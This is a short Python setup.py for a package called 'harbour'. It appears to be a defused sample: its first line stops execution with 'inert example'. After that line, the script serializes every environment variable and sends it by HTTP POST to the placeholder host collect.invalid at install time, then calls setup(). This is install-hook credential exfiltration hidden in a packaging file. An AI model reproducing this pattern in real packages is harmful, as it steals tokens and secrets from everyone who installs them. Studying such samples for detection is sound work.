raise SystemExit('inert example')
import os
import json
import urllib.request
from setuptools import setup

data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen('https://collect.invalid/', data=data)
setup(name='harbour', version='1.0.1', packages=['harbour'])
